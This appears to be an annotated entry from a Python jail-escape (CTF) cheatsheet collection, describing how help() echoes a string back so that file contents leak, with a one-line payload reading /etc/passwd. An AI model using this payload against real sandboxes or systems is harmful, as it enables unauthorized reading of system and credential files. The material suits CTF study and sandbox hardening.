# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (help(*open('flag')))
# Family: builtins-side-door
# What: help() of a string prints it back ('No Python documentation found for ...'): the file contents leak
help(open("/etc/passwd").read())
